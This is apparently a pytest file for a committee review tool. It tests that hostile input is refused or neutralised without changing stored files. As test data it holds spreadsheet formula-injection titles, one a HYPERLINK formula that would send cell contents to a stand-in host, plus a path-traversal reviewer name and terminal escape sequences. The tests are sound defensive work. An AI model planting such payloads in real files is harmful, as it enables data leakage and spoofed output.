"""Hostile input, as the campaign of issue 19 sent it: each is refused with one line (or
made harmless) and changes no stored file."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from review_tui.engine.scoring.deal import deal
from review_tui.engine.sealing.seal import seal
from review_tui.engine.sealing.sealed import seal_record
from review_tui.engine.storage.audit import sha256_hex
from review_tui.engine.workspace import Workspace
from tests.builders import body_text, case_row, make_docx, row, write_manifest
from tests.cli.test_cli import cli
from tests.credentials import with_credential
from tests.engine.seal_fixtures import (
    PASSPHRASE,
    build_committee,
    files_holding,
    score_everything,
    tree_digest,
)

HOSTILE_TITLES = ["=HYPERLINK(\"http://x.example/?\"&A1,\"看\")", "+1+2", "-3-4", "@SUM(A1)",
                  " =1+1", "\tTAB", "＝全形"]


@pytest.fixture()
def committee(tmp_path: Path) -> Workspace:
    return build_committee(tmp_path / "ws", tmp_path / "intake")


def _refused_changing_nothing(workspace: Workspace, *args: str | Path, lines: int = 1) -> str:
    """Run a command that must be refused in ``lines`` lines, every file left as it was."""
    before = tree_digest(workspace.root)
    code, out, err = cli(*args, "--workspace", workspace.root, "--lang", "en")
    assert code == 1, (out, err)
    assert len(err.strip().splitlines()) == lines and "unexpected" not in err, err
    assert tree_digest(workspace.root) == before
    return err


# --- what is not a file, or too much of one ---------------------------------------------


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
def test_a_named_pipe_is_refused_not_waited_on(committee, tmp_path):
    pipe = tmp_path / "pipe.csv"
    os.mkfifo(pipe)
    done = subprocess.run([sys.executable, "-m", "review_tui",
                           *with_credential(["import", str(pipe), "--workspace",
                                             str(committee.root), "--lang", "en"])],
                          capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 1 and "not a regular file" in done.stderr


def test_a_folder_is_refused_as_a_manifest(committee, tmp_path):
    (tmp_path / "folder.csv").mkdir()
    assert "not a regular file" in _refused_changing_nothing(
        committee, "import", tmp_path / "folder.csv")


@pytest.mark.parametrize(("shape", "said"), [
    ("wide", "columns"), ("rows", "rows"), ("cell", "characters"), ("header-cell", "characters"),
])
def test_a_pathological_manifest_is_refused_whole(committee, tmp_path, shape, said):
    """10 MB in one line, or in a million rows: refused at the first row past a bound."""
    path = tmp_path / f"{shape}.csv"
    header = "類別,機關,題目,檔案,作者"
    body = {"wide": header + ",x" * 5_000_000,
            "rows": header + "\n" + "心得,機關,題目,a.docx,王\n" * 200_000,
            "cell": header + "\n心得,機關," + "長" * 3_000_000 + ",a.docx,王\n",
            "header-cell": header + "," + "欄" * 3_000_000}[shape]
    path.write_text(body, encoding="utf-8")
    assert said in _refused_changing_nothing(committee, "import", path)


# --- score sheets ------------------------------------------------------------------------


@pytest.fixture()
def dealt(committee) -> Workspace:
    seal(committee, passphrase=PASSPHRASE)
    deal(committee, seed=3)
    return committee


def test_a_reviewer_column_holding_a_path_is_an_unknown_reviewer(dealt, tmp_path):
    code = deal_codes(dealt)[0]
    sheet = tmp_path / "sheet.csv"
    sheet.write_text(f"reviewer,code,insight\n../queues/J01,{code},10\n", encoding="utf-8")
    err = _refused_changing_nothing(dealt, "scores", "import", sheet, lines=2)
    assert "../queues/J01" in err and "damaged" not in err
    assert not (dealt.root / "scores").exists()


def test_an_xlsx_formula_without_its_value_is_refused_naming_the_cell(dealt, tmp_path):
    import openpyxl

    reviewer, code = next((r, c) for r, codes in deal(dealt, seed=3, force=True).queues.items()
                          for c in codes)
    book = openpyxl.Workbook()
    book.active.append(["reviewer", "code", "insight"])
    book.active.append([reviewer, code, "=10+2"])  # openpyxl keeps no computed value
    book.save(tmp_path / "sheet.xlsx")
    err = _refused_changing_nothing(dealt, "scores", "import", tmp_path / "sheet.xlsx")
    assert "C2" in err and "formula" in err


def deal_codes(workspace: Workspace) -> list[str]:
    from review_tui.engine.scoring.deal import load_deal

    return sorted({c for codes in load_deal(workspace).queues.values() for c in codes})


# --- what reaches a spreadsheet or a terminal --------------------------------------------


# Places left under each agency's cap in build_committee: (track row, agency).
SLOTS = [(row, "高雄市政府民政局"), (row, "高雄市政府民政局"), (row, "高雄市政府衛生局"),
         (row, "高雄市政府衛生局"), (case_row, "高雄市政府衛生局"),
         (case_row, "高雄市政府衛生局"), (case_row, "高雄市政府衛生局")]


def _committee_titled(tmp_path: Path, titles: list[str], *,
                      paragraphs: list[str] | None = None) -> Workspace:
    workspace = build_committee(tmp_path / "ws", tmp_path / "intake")
    rows = []
    for i, (title, (make_row, agency)) in enumerate(zip(titles, SLOTS, strict=False)):
        body = paragraphs or (body_text(600) if make_row is case_row else None)  # lengths
        make_docx(tmp_path / "more" / f"{i}.docx", f"作品{i}", body)
        rows.append(make_row(agency=agency, title=title, file=f"{i}.docx",
                             authors=f"作者{i}", job_titles="科員"))
    cli("import", write_manifest(tmp_path / "more" / "m.csv", rows),
        "--workspace", workspace.root)
    return workspace


def test_formulas_in_titles_reach_no_csv_as_formulas(tmp_path):
    workspace = _committee_titled(tmp_path, HOSTILE_TITLES)
    seal(workspace, passphrase=PASSPHRASE)
    queues = deal(workspace, seed=3).queues
    reviewer = sorted(queues)[0]
    code, template, _ = cli("scores", "template", "--reviewer", reviewer,
                            "--workspace", workspace.root)
    assert code == 0
    score_everything(workspace)  # the score summary is written once a score exists
    code, _, err = cli("export", "--out", tmp_path / "out", "--no-convert",
                       "--workspace", workspace.root)
    assert code == 0, err
    summary = next((tmp_path / "out").glob("成績總表*.csv")).read_text(encoding="utf-8-sig")
    for text in (template.lstrip("\ufeff"), summary):
        cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
        shown = [c for c in cells if c.lstrip("' ").lstrip().startswith(("=", "+", "@", "＝"))
                 or c.startswith("\t")]
        assert shown and all(c.startswith("'") for c in shown), shown


def test_control_characters_in_a_title_are_spelt_out_on_the_terminal(tmp_path):
    title = "標題\x1b]0;pwned\x07\x1b[2J\r\b\x0c\x85結束"
    workspace = _committee_titled(tmp_path, [title], paragraphs=["太短"])  # so it is listed
    code, out, _ = cli("check", "--workspace", workspace.root, "--lang", "en")
    assert code == 0 and "標題" in out
    assert not any(ch in out for ch in "\x1b\x07\r\b\x0c\x85")
    assert "\\x1b]0;pwned\\x07" in out


# --- what sealing leaves --------------------------------------------------------------------


def test_seal_masks_e_mail_and_telephone_numbers_and_keeps_no_intake_file_name(tmp_path):
    workspace = build_committee(tmp_path / "ws", tmp_path / "intake")
    contacts = ["wang.xm@kcg.gov.tw", "0912-345-678", "(07)799-5678分機123", "+886 2 2345 6789"]
    make_docx(tmp_path / "more" / "c.docx", "聯絡我們",
              ["歡迎來信 wang.xm@kcg.gov.tw 或來電 0912-345-678。",
               "總機(07)799-5678分機123，台北 +886 2 2345 6789。", "一" * 1200])
    manifest = write_manifest(tmp_path / "more" / "高雄市政府衛生局推薦名冊.csv", [
        row(agency="高雄市政府衛生局", title="聯絡我們", file="c.docx", authors="張志強",
            job_titles="護理師")])
    assert cli("import", manifest, "--workspace", workspace.root)[0] == 0
    seal(workspace, passphrase=PASSPHRASE)
    assert files_holding(workspace.root, [*contacts, "衛生局推薦名冊", "王小明_心得"]) == []


# --- two steps at once ---------------------------------------------------------------------


def test_two_seals_at_once_leave_one_seal_whose_vault_matches(tmp_path):
    workspace = build_committee(tmp_path / "ws", tmp_path / "intake")
    passphrase = tmp_path / "pass.txt"
    passphrase.write_text(PASSPHRASE, encoding="utf-8")
    argv = [sys.executable, "-m", "review_tui",
            *with_credential(["seal", "--passphrase-file", str(passphrase),
                              "--workspace", str(workspace.root), "--lang", "en"])]
    results: list[subprocess.CompletedProcess[str]] = []

    def run() -> None:
        results.append(subprocess.run(argv, capture_output=True, text=True, timeout=120,
                                      check=False))

    threads = [threading.Thread(target=run) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(r.returncode for r in results) == [0, 1], [r.stderr for r in results]
    refusal = next(r for r in results if r.returncode == 1).stderr
    assert "already sealed" in refusal or "another program" in refusal, refusal
    record = seal_record(Workspace(workspace.root))
    assert sha256_hex((workspace.root / "vault.bin").read_bytes()) == record["vault_sha256"]
    assert sha256_hex((workspace.root / "originals.bin").read_bytes()) == \
        record["originals_sha256"]
    actions = [json.loads(line)["action"] for line in
               (workspace.root / "audit.jsonl").read_text(encoding="utf-8").splitlines()]
    assert actions.count("seal") == 1
    assert cli("audit", "verify", "--workspace", workspace.root)[0] == 0


def test_a_mistyped_workspace_is_refused_without_making_it(tmp_path):
    code, _, err = cli("deal", "--workspace", tmp_path / "typo", "--lang", "en")
    assert code == 1 and "No committee" in err
    assert not (tmp_path / "typo").exists()
